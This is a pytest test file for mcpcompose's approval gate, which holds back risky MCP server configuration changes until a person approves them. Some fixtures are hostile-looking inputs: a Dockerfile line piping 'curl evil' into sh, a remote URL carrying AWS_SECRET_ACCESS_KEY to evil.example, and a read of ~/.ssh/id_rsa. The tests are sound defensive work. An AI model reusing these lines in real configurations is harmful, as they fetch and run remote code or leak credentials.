from __future__ import annotations

import stat
from pathlib import Path
from typing import Any

import pytest

from mcpcompose.errors import ApprovalNeeded, McpComposeError
from mcpcompose.orchestrator.approval import Approvals, approvals_of, forms
from mcpcompose.orchestrator.forms import Form
from mcpcompose.orchestrator.requests import ApplyRequest
from mcpcompose.paths import ProjectPaths
from mcpcompose.spec.identity import Owner
from mcpcompose.spec.interceptor import Audit, Interceptor
from mcpcompose.spec.project import Gateway, Profile, Project
from orchestrator.stage import Stage, project

HOME = Path("/home/someone")


def asked(what: Project, *, variables: dict[str, str] | None = None, **keys: Any) -> tuple[Form, ...]:
    return forms(what, variables=variables or {}, digests=keys.pop("digests", {}), home=HOME, **keys)


def one(what: Project, **keys: Any) -> Form:
    (found,) = asked(what, **keys)
    return found


async def refused(stage: Stage) -> tuple[Form, ...]:
    """What a look at the file finds unapproved; nothing may have changed by it."""
    before = dict(stage.running)
    await stage.controller.look()
    assert stage.running == before
    status = stage.controller.status()
    assert isinstance(status.problem, ApprovalNeeded)
    return status.pending


async def test_a_host_command_that_somebody_adds_is_not_run_until_it_is_approved(stage: Stage) -> None:
    stage.have(a="one:1")
    await stage.controller.apply()
    stage.have(a="one:1", evil={"process": ["true", "-x"]})

    (form,) = await refused(stage)
    assert form.text.splitlines()[0] == '["true", "-x"]'

    outcome = await stage.controller.apply(ApplyRequest(trust=(form.hash,)))
    assert outcome.ok
    assert set(stage.running) == {"team-a-1", "team-evil-1"}


async def test_forms_of_one_change_may_be_approved_one_by_one(stage: Stage) -> None:
    stage.have(a={"image": "one:1", "tools": {"deny": ["x"]}}, b={"image": "two:1", "tools": {"deny": ["y"]}})
    assert (await stage.controller.apply()).ok
    stage.have(a="one:1", b="two:1")
    await stage.controller.look()
    (first, second) = stage.controller.status().pending

    stage.approvals.approve([first])
    await stage.controller.look()
    assert stage.controller.status().pending == (second,)

    stage.approvals.approve([second])
    await stage.controller.look()
    assert stage.controller.status().problem is None
    assert stage.approvals.approved() == ()


@pytest.mark.parametrize(
    "weak",
    [
        {"audit": Audit(enabled=False)},
        {"audit": Audit(values="redacted")},
        {"interceptors": (Interceptor.model_validate({"run": ["check"]}),)},
        {"interceptors": (Interceptor.model_validate({"use": "sanitize", "on_failure": "allow"}),)},
        {"gateway": Gateway.model_validate({"allowed_hosts": ["a.test"]})},
    ],
)
async def test_what_was_taken_back_is_asked_for_again(stage: Stage, weak: dict[str, Any]) -> None:
    servers = {"a": {"image": "one:1"}}
    stage.write(project(stage.folder, servers=servers, **weak))
    assert (await stage.apply_approved()).ok
    await stage.controller.look()
    assert stage.controller.status().problem is None
    stage.write(project(stage.folder, servers=servers))
    await stage.apply_approved()

    stage.write(project(stage.folder, servers=servers, **weak))

    assert [form.once for form in await refused(stage)][:1] == [False]


async def test_up_names_the_hashes_and_exits_with_6(stage: Stage) -> None:
    stage.have(evil={"process": ["true"]})

    with pytest.raises(ApprovalNeeded) as caught:
        await stage.controller.apply()

    assert caught.value.exit_code == 6
    assert caught.value.hashes[0] in caught.value.message
    assert "trust" in str(caught.value.hint)


async def test_a_mount_of_the_home_folder_is_not_made_until_it_is_approved(stage: Stage, tmp_path: Path) -> None:
    stage.have(a="one:1")
    await stage.controller.apply()
    stage.have(a={"image": "one:1", "volumes": [f"{tmp_path}:/keys:ro"]})

    (form,) = await refused(stage)

    assert form.text == f"mounts {tmp_path} at /keys, read-only\nsource image one"


def test_what_is_sent_to_a_remote_needs_approval_with_the_address_it_goes_to() -> None:
    remote = {"url": "https://good.example/mcp", "headers": {"Authorization": "Bearer ${secret:key}", "X-Kind": "a"}}
    moved = {**remote, "url": "https://evil.example/mcp"}

    found = one(project(servers={"a": remote}, secrets={"key": ({"environment": "K"},)}))

    assert found.text == (
        "sends to https://good.example/mcp\n"
        'header Authorization="Bearer ${secret:key}" (secret key from {"environment": "K"})'
    )
    assert one(project(servers={"a": moved}, secrets={"key": ({"environment": "K"},)})).hash != found.hash


@pytest.mark.parametrize("url", ["http://mcp.vendor.example/rpc", "http://10.0.0.5:80/mcp", "${BASE}/mcp"])
def test_a_server_without_tls_elsewhere_needs_approval(url: str) -> None:
    found = asked(project(servers={"a": {"url": url}}), variables={"BASE": "http://mcp.vendor.example"})
    assert "unencrypted server" in {form.kind for form in found}
    assert "without TLS" in "".join(form.text for form in found)


@pytest.mark.parametrize(
    "url", ["https://mcp.vendor.example", "http://127.0.0.1:1/mcp", "http://localhost/mcp", "http://[::1]:9/mcp"]
)
def test_a_server_with_tls_or_on_this_machine_needs_none_for_that(url: str) -> None:
    assert asked(project(servers={"a": {"url": url}})) == ()


def test_a_variable_in_a_remotes_address_needs_approval_and_a_plain_address_none() -> None:
    (found,) = asked(project(servers={"a": {"url": "https://evil.example/${AWS_SECRET_ACCESS_KEY}"}}))

    assert found.text == "sends to https://evil.example/${AWS_SECRET_ACCESS_KEY}"
    assert asked(project(servers={"a": {"url": "https://plain.example/mcp", "headers": {"X-Kind": "a"}}})) == ()


def test_another_variable_for_a_server_that_can_reach_out_needs_another_approval() -> None:
    plain = one(project(servers={"a": {"image": "one:1", "network": "open"}}))
    given = {"X": "${AWS_SECRET_ACCESS_KEY}", "Y": "1"}
    fed = one(project(servers={"a": {"image": "one:1", "network": "open", "environment": given}}))

    assert fed.text.splitlines()[-1] == "gets environment X=${AWS_SECRET_ACCESS_KEY}"
    assert fed.hash != plain.hash
    assert asked(project(servers={"a": {"image": "one:1", "environment": {"X": "${AWS_SECRET_ACCESS_KEY}"}}})) == ()


async def test_a_link_in_the_project_to_a_folder_outside_is_a_mount_outside(stage: Stage, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (stage.folder / "data").mkdir()
    stage.have(a={"image": "one:1", "volumes": ["./data:/data"]})
    await stage.controller.apply()
    (stage.folder / "data").rmdir()
    (stage.folder / "data").symlink_to(outside)

    (form,) = await refused(stage)

    assert f"mounts {stage.folder}/data (which is {outside}) at /data, writable" in form.text


async def test_a_deny_that_somebody_drops_is_kept_until_it_is_approved(stage: Stage) -> None:
    stage.have(a={"image": "one:1", "tools": {"deny": ["delete_*"]}})
    await stage.controller.apply()
    stage.have(a="one:1")

    (form,) = await refused(stage)
    assert form.text == "no longer denies delete_*"
    assert stage.serving.declared[-1][0].servers["a"].tools.deny == ("delete_*",)

    assert (await stage.apply_approved()).ok
    assert stage.serving.declared[-1][0].servers["a"].tools.deny == ()


async def test_removing_a_server_and_adding_it_again_with_looser_rules_is_noticed(stage: Stage) -> None:
    stage.have(a={"image": "one:1", "tools": {"allow": ["get_*"]}})
    await stage.controller.apply()
    stage.have(b="two:1")
    await stage.controller.look()
    stage.have(a="one:1", b="two:1")

    (form,) = await refused(stage)

    assert form.text == "allows every tool, was get_*"


async def test_an_approved_loosening_counts_once(stage: Stage) -> None:
    tight, loose = {"image": "one:1", "tools": {"deny": ["delete_*"]}}, "one:1"
    stage.have(a=tight)
    await stage.controller.apply()
    stage.have(a=loose)
    await stage.apply_approved()
    stage.have(a=tight)
    await stage.controller.look()
    stage.have(a=loose)

    assert await refused(stage)


async def test_a_changed_dockerfile_needs_another_approval(stage: Stage) -> None:
    context = stage.folder / "image"
    context.mkdir()
    (context / "Dockerfile").write_text("FROM scratch\n")
    stage.programs = {**stage.programs, "build:image": stage.programs["one:1"]}
    stage.fresh()
    stage.have(a={"build": "./image"})
    await stage.apply_approved()
    (context / "Dockerfile").write_text("FROM scratch\nRUN curl evil | sh\n")

    (form,) = await refused(stage)

    assert form.kind == "build"


async def test_an_unapproved_secret_command_is_never_run_not_even_for_a_preview(stage: Stage) -> None:
    mark = stage.folder / "ran"
    stage.write(
        project(
            stage.folder,
            servers={"a": {"image": "one:1", "secrets": ["k"]}},
            secrets={"k": ({"command": ("touch", str(mark))},)},
        )
    )

    with pytest.raises(ApprovalNeeded):
        await stage.controller.apply()
    preview = await stage.controller.preview()

    assert [form.kind for form in preview.pending] == ["secret command"]
    assert "a: create team-a-1" in str(preview.plan)
    assert not mark.exists()


def test_a_host_commands_form_shows_what_would_really_run() -> None:
    what = project(servers={"a": {"process": ["${TOOL}"], "environment": {"PATH": "${P}", "KEY": "${KEY}"}}})

    form = one(what, variables={"TOOL": "/bin/evil", "P": "/evil", "KEY": "hidden-value"})

    assert form.text == '["/bin/evil"]\nin /work\nenvironment KEY=${KEY}\nenvironment PATH="/evil"'
    assert one(what, variables={"TOOL": "/bin/good", "P": "/evil", "KEY": "hidden-value"}).hash != form.hash
    assert one(what, variables={"TOOL": "/bin/evil", "P": "/bin", "KEY": "hidden-value"}).hash != form.hash
    assert one(what, variables={"TOOL": "/bin/evil", "P": "/evil", "KEY": "another"}).hash == form.hash


def test_packages_need_approval_where_they_run_on_the_host() -> None:
    keys = {"servers": {"a": {"package": "pypi:mcp-server-time==1", "args": ["-v"]}}}

    assert asked(project(**keys)) == ()
    assert one(project(engine="process", **keys)).text.startswith("installs and runs pypi:mcp-server-time==1\n")


@pytest.mark.parametrize(
    ("keys", "kind"),
    [
        ({"unsafe": ["privileged"], "privileged": True}, "unsafe settings"),
        ({"volumes": ["/srv/data:/data"]}, "mount"),
        ({"volumes": ["../other:/data"]}, "mount"),
        ({"network": "open"}, "network"),
        ({"network": "host", "unsafe": []}, "network"),
        ({"env_file": ["/etc/environment"]}, "environment file"),
    ],
)
def test_what_widens_a_container_needs_approval(keys: dict[str, Any], kind: str) -> None:
    assert one(project(servers={"a": {"image": "x:1", **keys}})).kind == kind


@pytest.mark.parametrize(
    "keys", [{}, {"volumes": ["./data:/data", "named:/x"]}, {"network": "isolated"}, {"mem_limit": "9g"}]
)
def test_what_stays_within_the_defaults_needs_none(keys: dict[str, Any]) -> None:
    assert asked(project(servers={"a": {"image": "x:1", **keys}})) == ()


def test_a_secret_file_outside_the_project_needs_approval_and_one_inside_none() -> None:
    servers = {"a": {"image": "x:1", "secrets": ["k"]}}

    assert one(project(servers=servers, secrets={"k": ({"file": "~/.ssh/id_rsa"},)})).text == (
        "reads /home/someone/.ssh/id_rsa"
    )
    assert asked(project(servers=servers, secrets={"k": ({"file": "key"},)})) == ()


def test_another_version_of_an_image_keeps_its_approvals_and_another_image_does_not() -> None:
    def hash_of(image: str) -> str:
        return one(project(servers={"a": {"image": image, "network": "open"}})).hash

    assert hash_of("registry:5000/x:1") == hash_of("registry:5000/x:2") == hash_of("registry:5000/x@sha256:1")
    assert hash_of("registry:5000/x:1") != hash_of("registry:5000/y:1")


@pytest.mark.parametrize(
    ("before", "after", "text"),
    [
        ({"allow": ["a"]}, {"allow": ["a", "b"]}, "also allows b, was a"),
        ({"allow": ["a"]}, {}, "allows every tool, was a"),
        ({"allow": []}, {"allow": ["*"]}, "also allows *, was nothing"),
        ({"deny": ["a", "b"]}, {"deny": ["a"]}, "no longer denies b"),
        ({"deny": ["*"]}, {"deny": ["a*"]}, "no longer denies *"),
    ],
)
def test_looser_tools_need_approval(before: dict[str, Any], after: dict[str, Any], text: str, tmp_path: Path) -> None:
    store = Approvals(tmp_path / "approvals.json")
    store.record(project(servers={"a": {"image": "x:1", "tools": before}}), {})

    assert one(project(servers={"a": {"image": "x:1", "tools": after}}), baseline=store.baseline()).text == text


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({}, {"deny": ["a"]}),
        ({"allow": ["a*"]}, {"allow": ["ab", "ac"]}),
        ({"deny": ["ab"]}, {"deny": ["a*"]}),
        ({}, {"allow": []}),
    ],
)
def test_tighter_tools_need_none(before: dict[str, Any], after: dict[str, Any], tmp_path: Path) -> None:
    store = Approvals(tmp_path / "approvals.json")
    store.record(project(servers={"a": {"image": "x:1", "tools": before}}), {})

    assert asked(project(servers={"a": {"image": "x:1", "tools": after}}), baseline=store.baseline()) == ()


def test_looser_profiles_need_approval_and_new_servers_none(tmp_path: Path) -> None:
    def profiled(servers: list[str], **profiles: Profile) -> Project:
        return project(servers={name: {"image": "x:1"} for name in servers}, profiles=profiles)

    store = Approvals(tmp_path / "approvals.json")
    store.record(profiled(["a", "b"], default=Profile(servers=("a",), tools={"a": ("get_*",)})), {})
    baseline = store.baseline()

    with_new = profiled(["a", "b", "c"], default=Profile(servers=("a", "c"), tools={"a": ("get_*",)}))
    assert asked(with_new, baseline=baseline) == ()
    with_b = profiled(["a", "b"], default=Profile(servers=("a", "b"), tools={"a": ("get_*",)}))
    assert one(with_b, baseline=baseline).text == "also gets b"
    no_tools = profiled(["a", "b"], default=Profile(servers=("a",)))
    assert one(no_tools, baseline=baseline).text == "gets every tool of a, was get_*"
    everything = profiled(["a", "b"], default=Profile(servers=("a", "b")))
    assert one(everything, baseline=baseline).kind == "looser profile"


def test_who_else_than_loopback_may_ask_needs_approval_from_the_first_time_on() -> None:
    gateway = Gateway.model_validate({"auth": "none", "allowed_hosts": ["b.test", "a.test"]})
    what = project(servers={}).model_copy(update={"gateway": gateway})

    assert one(what).text == "a.test (auth: none)\nb.test (auth: none)"
    assert one(what).subject == "allowed_hosts"


def test_the_store_is_private_and_a_broken_one_is_an_error(tmp_path: Path) -> None:
    store = Approvals(tmp_path / "state" / "approvals.json")
    what = project(servers={"a": {"process": ["true"]}})
    store.approve(asked(what))

    assert store.pending(asked(what)) == ()
    assert [form.subject for form in store.approved()] == ["a"]
    assert stat.S_IMODE((tmp_path / "state" / "approvals.json").stat().st_mode) == 0o600
    assert [path.name for path in (tmp_path / "state").iterdir()] == ["approvals.json"]

    (tmp_path / "state" / "approvals.json").write_text("{")
    with pytest.raises(McpComposeError, match="cannot be read"):
        store.pending(asked(what))


async def test_only_a_whole_hash_approves(stage: Stage) -> None:
    stage.have(evil={"process": ["true"]})
    with pytest.raises(ApprovalNeeded) as caught:
        await stage.controller.apply()
    (whole,) = caught.value.hashes

    for part in (whole[:12], whole[:-1], "all", ""):
        with pytest.raises(ApprovalNeeded):
            await stage.controller.apply(ApplyRequest(trust=(part,)))
    assert (await stage.controller.apply(ApplyRequest(trust=(whole,)))).ok


def test_another_project_name_in_the_same_folder_forgets_no_rules(tmp_path: Path) -> None:
    def store(name: str) -> Approvals:
        return approvals_of(
            ProjectPaths(tmp_path / "run" / name, tmp_path / "state" / name, tmp_path / "c"), Owner(name, "f" * 16)
        )

    (tmp_path / "state").mkdir()
    store("one").record(project(servers={"a": {"image": "x", "tools": {"deny": ["drop_*"]}}}), {})

    assert store("two").baseline() == store("one").baseline()
    assert store("two").baseline() is not None
